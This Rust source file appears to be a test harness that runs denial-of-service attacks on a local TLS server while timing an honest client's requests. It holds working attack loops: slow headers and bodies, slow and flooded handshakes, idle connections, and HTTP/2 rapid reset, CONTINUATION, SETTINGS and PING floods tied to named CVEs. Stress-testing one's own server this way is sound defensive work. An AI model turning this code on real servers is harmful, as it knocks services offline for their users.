//! Clients that mean ill, and one that wants the key set meanwhile.
//!
//! They come from this machine, whose addresses have no limit of their own: what holds them is the limit on all connections.

mod http2;

use std::{
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use rustls::{
    ClientConfig, RootCertStore,
    client::Resumption,
    pki_types::{CertificateDer, ServerName},
};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};
use tokio_rustls::{TlsConnector, client::TlsStream};

/// How long an attacker waits between two drops, and after a failure.
const DRIP: Duration = Duration::from_millis(500);
/// How long the honest client waits for one answer.
const PATIENCE: Duration = Duration::from_secs(10);

/// What the attackers do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Connect, and say nothing.
    SilentConnections,
    /// Send a handshake's first bytes, one at a time.
    SlowHandshakes,
    /// Shake hands, and ask nothing.
    IdleConnections,
    /// Send headers that never end.
    SlowHeaders,
    /// Send a body that never ends.
    SlowBodies,
    /// Shake hands in full, again and again.
    HandshakeFlood,
    /// HTTP/2: ask and take it back at once (CVE-2023-44487).
    RapidReset,
    /// HTTP/2: headers that go on in CONTINUATION frames for ever (CVE-2024-27316).
    ContinuationFlood,
    /// HTTP/2: SETTINGS that must be acknowledged, and nothing read (CVE-2019-9515).
    SettingsFlood,
    /// HTTP/2: PINGs that must be answered, and nothing read (CVE-2019-9512).
    PingFlood,
    /// HTTP/2: a hundred answers asked for, and no window to send them in (CVE-2019-9517).
    ClosedWindow,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 11] = [
        Self::SilentConnections,
        Self::SlowHandshakes,
        Self::IdleConnections,
        Self::SlowHeaders,
        Self::SlowBodies,
        Self::HandshakeFlood,
        Self::RapidReset,
        Self::ContinuationFlood,
        Self::SettingsFlood,
        Self::PingFlood,
        Self::ClosedWindow,
    ];

    /// Its name in tables.
    pub const fn name(self) -> &'static str {
        match self {
            Self::SilentConnections => "silent connections",
            Self::SlowHandshakes => "slow handshakes",
            Self::IdleConnections => "idle connections",
            Self::SlowHeaders => "slow headers",
            Self::SlowBodies => "slow bodies",
            Self::HandshakeFlood => "handshake flood",
            Self::RapidReset => "HTTP/2 rapid reset",
            Self::ContinuationFlood => "HTTP/2 CONTINUATION flood",
            Self::SettingsFlood => "HTTP/2 SETTINGS flood",
            Self::PingFlood => "HTTP/2 PING flood",
            Self::ClosedWindow => "HTTP/2 closed windows",
        }
    }

    /// Whether it is many connections that hurt; otherwise it is what each of them does.
    pub const fn is_about_number(self) -> bool {
        matches!(
            self,
            Self::SilentConnections
                | Self::SlowHandshakes
                | Self::IdleConnections
                | Self::SlowHeaders
                | Self::SlowBodies
        )
    }

    /// Whether it is connections that go on and on, which the server must end.
    pub const fn says_much_in_vain(self) -> bool {
        matches!(self, Self::RapidReset | Self::ContinuationFlood | Self::SettingsFlood | Self::PingFlood)
    }
}

/// A server that is attacked.
#[derive(Debug, Clone)]
pub struct Victim {
    address: SocketAddr,
    http1: Arc<ClientConfig>,
    http2: Arc<ClientConfig>,
}

impl Victim {
    /// A server on this machine with a certificate for `localhost`, which is its own authority or was signed by this one.
    pub fn new(address: SocketAddr, authority: CertificateDer<'static>) -> Result<Self, rustls::Error> {
        let mut roots = RootCertStore::empty();
        roots.add(authority)?;
        let config = |protocol: &[u8]| {
            let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
            let mut config = ClientConfig::builder_with_provider(provider)
                .with_safe_default_protocol_versions()?
                .with_root_certificates(roots.clone())
                .with_no_client_auth();
            config.alpn_protocols = vec![protocol.to_vec()];
            // As STS comes, and as it hurts most: without an earlier session.
            config.resumption = Resumption::disabled();
            Ok::<_, rustls::Error>(Arc::new(config))
        };
        Ok(Self { address, http1: config(b"http/1.1")?, http2: config(b"h2")? })
    }

    async fn shake_hands(&self, config: &Arc<ClientConfig>) -> io::Result<TlsStream<TcpStream>> {
        let stream = TcpStream::connect(self.address).await?;
        stream.set_nodelay(true)?;
        let name = ServerName::try_from("localhost").map_err(io::Error::other)?;
        TlsConnector::from(Arc::clone(config)).connect(name, stream).await
    }

    /// Fetches a document over a connection of its own, as STS does. Tells how long that took.
    pub async fn fetch(&self, path: &str) -> io::Result<Duration> {
        let began = Instant::now();
        let fetched = async {
            let mut stream = self.shake_hands(&self.http1).await?;
            let request = format!("GET {path} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n");
            stream.write_all(request.as_bytes()).await?;
            let mut answer = Vec::new();
            stream.read_to_end(&mut answer).await?;
            if answer.starts_with(b"HTTP/1.1 200 ") && answer.ends_with(b"}") {
                Ok(())
            } else {
                Err(io::Error::other(String::from_utf8_lossy(&answer).into_owned()))
            }
        };
        tokio::time::timeout(PATIENCE, fetched).await.map_err(io::Error::from)??;
        Ok(began.elapsed())
    }

    /// So many attackers, each in a task, until they are dropped.
    pub fn attack(&self, attack: Attack, attackers: usize) -> Attackers {
        let done = Arc::new(Done::default());
        let mut tasks = JoinSet::new();
        for _ in 0..attackers {
            let (victim, done) = (self.clone(), Arc::clone(&done));
            tasks.spawn(async move {
                loop {
                    // A connection that is refused or cut is begun anew.
                    if victim.once(attack, &done).await.is_err() {
                        done.broken.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(DRIP).await;
                    }
                }
            });
        }
        Attackers { _tasks: tasks, done }
    }

    async fn once(&self, attack: Attack, done: &Done) -> io::Result<()> {
        match attack {
            Attack::SilentConnections => {
                let stream = TcpStream::connect(self.address).await?;
                done.begun.fetch_add(1, Ordering::Relaxed);
                read_to_end(stream).await
            }
            Attack::SlowHandshakes => {
                let mut stream = TcpStream::connect(self.address).await?;
                done.begun.fetch_add(1, Ordering::Relaxed);
                // The head of a record with a ClientHello of 512 bytes (RFC 8446 §5.1, §4).
                for byte in [0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc].into_iter().chain(std::iter::repeat_n(3, 500)) {
                    stream.write_all(&[byte]).await?;
                    tokio::time::sleep(DRIP).await;
                }
                Ok(())
            }
            Attack::IdleConnections => {
                let stream = self.shake_hands(&self.http2).await?;
                done.begun.fetch_add(1, Ordering::Relaxed);
                read_to_end(stream).await
            }
            Attack::SlowHeaders => self.drip(b"GET /livez HTTP/1.1\r\nhost: localhost\r\n", b"x: y\r\n", done).await,
            Attack::SlowBodies => {
                let head = b"POST /v1/sessions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
                self.drip(head, b" ", done).await
            }
            Attack::HandshakeFlood => {
                self.shake_hands(&self.http1).await?;
                done.begun.fetch_add(1, Ordering::Relaxed);
                Ok(())
            }
            Attack::RapidReset
            | Attack::ContinuationFlood
            | Attack::SettingsFlood
            | Attack::PingFlood
            | Attack::ClosedWindow => {
                let stream = self.shake_hands(&self.http2).await?;
                done.begun.fetch_add(1, Ordering::Relaxed);
                http2::talk(stream, attack).await
            }
        }
    }

    async fn drip(&self, head: &[u8], drop: &[u8], done: &Done) -> io::Result<()> {
        let mut stream = self.shake_hands(&self.http1).await?;
        stream.write_all(head).await?;
        done.begun.fetch_add(1, Ordering::Relaxed);
        loop {
            tokio::time::sleep(DRIP).await;
            stream.write_all(drop).await?;
        }
    }
}

async fn read_to_end(mut stream: impl AsyncReadExt + Unpin) -> io::Result<()> {
    while stream.read(&mut [0; 1024]).await? > 0 {}
    Err(io::ErrorKind::UnexpectedEof.into())
}

/// Attackers at work. Dropping this ends them.
#[derive(Debug)]
pub struct Attackers {
    _tasks: JoinSet<()>,
    done: Arc<Done>,
}

#[derive(Debug, Default)]
struct Done {
    begun: AtomicU64,
    broken: AtomicU64,
}

impl Attackers {
    /// Connections that were begun, as far as the attack goes.
    pub fn begun(&self) -> u64 {
        self.done.begun.load(Ordering::Relaxed)
    }

    /// Connections that the server cut or refused.
    pub fn broken(&self) -> u64 {
        self.done.broken.load(Ordering::Relaxed)
    }
}
